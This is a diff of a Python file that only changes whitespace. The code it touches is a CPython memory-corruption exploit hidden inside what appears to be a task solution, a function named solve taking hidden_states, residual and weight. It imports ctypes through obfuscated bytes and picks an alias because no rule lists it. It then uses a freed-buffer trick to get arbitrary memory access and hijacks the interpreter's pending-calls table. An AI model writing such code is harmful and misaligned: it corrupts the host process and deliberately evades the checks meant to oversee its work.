@@ -17,18 +17,18 @@ _V.read_module(bytes([99, 116, 121, 112, 101, 115]).decode(), "loose")
 _RESIZE = _V.resize
 _WORD = _V.c_voidp  # ctypes' own alias of c_void_p, under a name no rule lists
 
-_LIB = id(int) - 0x457CE0                     # &PyLong_Type
-_CALLNOARGS = _LIB + 0x158A80                 # PyObject_CallNoArgs
-_CALLS = _LIB + 0x54E540 + 0xE6B8             # _PyRuntime...ceval.pending.calls
+_LIB = id(int) - 0x457CE0  # &PyLong_Type
+_CALLNOARGS = _LIB + 0x158A80  # PyObject_CallNoArgs
+_CALLS = _LIB + 0x54E540 + 0xE6B8  # _PyRuntime...ceval.pending.calls
 _KEEP = []
 _P = []
 
 
 def _open():
     for _ in range(64):
-        a = (_WORD * 8)()                      # 64 bytes, pymalloc
+        a = (_WORD * 8)()  # 64 bytes, pymalloc
         m = memoryview(a).cast("B")
-        _RESIZE(a, 1 << 16)                    # realloc: the 64-byte block freed, m still on it
+        _RESIZE(a, 1 << 16)  # realloc: the 64-byte block freed, m still on it
         spray = [bytearray(8) for _ in range(64)]
         _KEEP.append((a, m, spray))
         if int.from_bytes(m[8:16], "little") != id(bytearray):
@@ -38,8 +38,8 @@ def _open():
         vic = [b for b in spray if len(b) == 7]
         m[16:24] = old
         if vic:
-            m[40:48] = bytes(8)                                  # ob_start = 0
-            m[16:24] = (1 << 62).to_bytes(8, "little")           # ob_size
+            m[40:48] = bytes(8)  # ob_start = 0
+            m[16:24] = (1 << 62).to_bytes(8, "little")  # ob_size
             return vic[0]
     return None
 
@@ -71,7 +71,7 @@ def solve(hidden_states, residual, weight):
     ]
     payload = functools.partial(operator.countOf, map(id, map(operator.call, steps)), -1)
     _P[:] = [payload, steps]
-    i = int.from_bytes(mem[_CALLS + 512:_CALLS + 516], "little")  # pending.first
-    mem[_CALLS + 16 * i + 8:_CALLS + 16 * i + 16] = id(payload).to_bytes(8, "little")
-    mem[_CALLS + 16 * i:_CALLS + 16 * i + 8] = _CALLNOARGS.to_bytes(8, "little")
+    i = int.from_bytes(mem[_CALLS + 512 : _CALLS + 516], "little")  # pending.first
+    mem[_CALLS + 16 * i + 8 : _CALLS + 16 * i + 16] = id(payload).to_bytes(8, "little")
+    mem[_CALLS + 16 * i : _CALLS + 16 * i + 8] = _CALLNOARGS.to_bytes(8, "little")
     return out
